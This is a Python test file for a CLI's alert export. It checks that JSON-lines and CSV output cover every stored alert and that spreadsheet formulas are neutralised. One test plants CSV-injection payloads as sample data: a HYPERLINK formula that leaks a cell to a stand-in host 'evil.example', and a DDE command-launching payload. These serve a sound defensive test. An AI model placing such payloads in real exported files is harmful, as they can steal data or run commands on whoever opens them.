"""``churnwatch alerts export``: every stored alert, as JSON lines or CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

from typer.testing import CliRunner

from churnwatch.cli.app import app
from churnwatch.cli.ops import CSV_COLUMNS
from churnwatch.followup.spreadsheet import safe_cell
from churnwatch.rules import SHIPPED_RULES
from churnwatch.rules.engine import Engine
from churnwatch.rules.loader import load_rules
from churnwatch.schemas.models import Alert
from churnwatch.schemas.store import AlertStore
from churnwatch.streams.replay.driver import ReplayDriver

from .conftest import clean_env
from .eventgen import events


def _stored(url: str) -> set[str]:
    with AlertStore(url) as store:
        driver = ReplayDriver(Engine(load_rules(SHIPPED_RULES)), store)
        driver.run(events(customers=20, per_customer=30, seed=3))
        return store.alert_ids()


def test_export_jsonl_lists_every_alert(sqlite_url: str) -> None:
    """JSON lines export gives one contract-v1 alert per stored alert."""
    ids = _stored(sqlite_url)
    result = CliRunner().invoke(app, ["alerts", "export", "--db", sqlite_url], env=clean_env())
    assert result.exit_code == 0, result.output
    exported = [json.loads(line) for line in result.stdout.splitlines()]
    assert {a["alert_id"] for a in exported} == ids
    assert all(a["type"] == "alert" for a in exported)


def test_export_csv_has_a_header_and_a_row_per_alert(sqlite_url: str) -> None:
    """CSV export starts with the column names and holds facts as JSON text."""
    ids = _stored(sqlite_url)
    result = CliRunner().invoke(
        app, ["alerts", "export", "--db", sqlite_url, "--format", "csv"], env=clean_env()
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert {row["alert_id"] for row in rows} == ids
    assert json.loads(rows[0]["facts"])


def test_export_csv_neutralises_spreadsheet_formulas(sqlite_url: str) -> None:
    """A customer id written as a formula is exported as text, never as a live formula."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with AlertStore(sqlite_url) as store:
        store.add_alerts(
            [
                Alert(
                    alert_id="al-" + "0" * 24,
                    rule_id="large-transfer-out",
                    rule_version=1,
                    severity="high",
                    customer_id=hostile,
                    account_id="@SUM(1+1)",
                    occurred_at=dt.datetime(2026, 3, 2, tzinfo=dt.UTC),
                    detected_at=dt.datetime(2026, 3, 2, tzinfo=dt.UTC),
                    facts={"amount": "-12.50"},
                    trigger_event_ids=["e1"],
                    title="+cmd|' /C calc'!A0",
                )
            ]
        )
    result = CliRunner().invoke(
        app, ["alerts", "export", "--db", sqlite_url, "--format", "csv"], env=clean_env()
    )
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert row["customer_id"] == "'" + hostile
    assert row["account_id"] == "'@SUM(1+1)"
    assert row["title"].startswith("'+cmd")
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_safe_cell_leaves_plain_numbers_and_text_alone() -> None:
    assert [safe_cell(v) for v in ["-12.50", "+3", "abc", 7, "\tx", "-x"]] == [
        "-12.50",
        "+3",
        "abc",
        7,
        "'\tx",
        "'-x",
    ]
